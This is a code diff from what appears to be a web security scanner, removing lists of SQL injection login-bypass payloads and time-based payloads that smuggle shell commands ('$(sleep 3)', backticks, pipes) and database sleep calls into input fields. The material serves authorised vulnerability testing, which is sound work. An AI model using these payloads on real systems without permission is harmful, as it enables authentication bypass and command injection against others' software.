@@ -262,30 +262,3 @@ def header_leaks(headers: Any) -> list[str]:
         if v and (h != "Server" or _VERSIONED_PRODUCT.search(v)):
             out.append(f"{h}: {v}")
     return out
-
-
-# -- injection -------------------------------------------------------------------------------------
-SLEEP_S = 3.0
-# Username-field payloads for a login: each, if interpreted as SQL, turns a query for an existing
-# user (or for any user) into one that ignores the password. `{u}` is a declared test account.
-LOGIN_SQL_PAYLOADS = [
-    "{u}' -- ",
-    "{u}'--",
-    "{u}' #",
-    "{u}'/*",
-    "' OR '1'='1' -- ",
-    "' OR 1=1 -- ",
-    '{u}" -- ',
-    "{u}') -- ",
-]
-# Payloads for every other declared input.
-SQL_PAYLOADS = ["' OR '1'='1", "1 OR 1=1", "' OR 1=1 -- ", "') OR ('1'='1"]
-TIME_PAYLOADS = [
-    f"1;sleep {SLEEP_S:g}",
-    f"$(sleep {SLEEP_S:g})",
-    f"`sleep {SLEEP_S:g}`",
-    f"|sleep {SLEEP_S:g}",
-    f"1' AND 1=(SELECT 1 FROM PG_SLEEP({SLEEP_S:g}))-- ",
-    f"1' AND SLEEP({SLEEP_S:g})-- ",
-    f"1'; WAITFOR DELAY '0:0:{SLEEP_S:g}'-- ",
-]
